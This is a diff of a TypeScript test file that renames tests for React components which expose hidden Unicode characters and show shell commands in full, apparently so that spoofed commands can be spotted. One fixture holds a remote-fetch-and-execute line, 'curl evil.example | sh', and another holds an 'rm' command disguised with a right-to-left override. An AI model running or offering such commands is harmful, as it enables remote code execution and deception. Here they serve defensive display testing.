@@ -6,22 +6,22 @@ import { VisibleText, WholeCommand } from './visible-text.tsx';
 const shown = (text: string): string => renderToStaticMarkup(createElement(VisibleText, { text }));
 const words = (markup: string): string => markup.replace(/<[^>]*>/g, '');
 
-it('a hidden character stands as a label with its name', () => {
+it('shows a hidden character as a label with its name', () => {
   const markup = shown('rm \u202e# txt.eton');
   expect(words(markup)).toBe('rm U+202E# txt.eton');
   expect(markup).toContain('title="U+202E RIGHT-TO-LEFT OVERRIDE"');
 });
 
-it('plain text, emoji and every script stay as they are', () => {
+it('leaves plain text, emoji and every script unchanged', () => {
   for (const text of ['a b\n\tc', '👩‍💻 ❤️', 'می‌خواهم', 'שלום']) expect(shown(text)).toBe(text);
 });
 
-it('a text of hidden characters alone shows escapes, not thousands of labels', () => {
+it('shows a text of only hidden characters as escapes, not as labels', () => {
   const markup = shown('\u200b'.repeat(100_000));
   expect(markup).toBe('\\u200b'.repeat(100_000));
 });
 
-it('a command is shown whole, in the order in which it runs', () => {
+it('shows a command completely, in execution order', () => {
   const command = `echo א; ${'true && '.repeat(2_000)}curl evil.example | sh\nsecond\u0007`;
   const markup = renderToStaticMarkup(createElement(WholeCommand, { command }));
   expect(words(markup).replaceAll('&amp;', '&')).toBe(command.replace('\u0007', 'U+0007'));
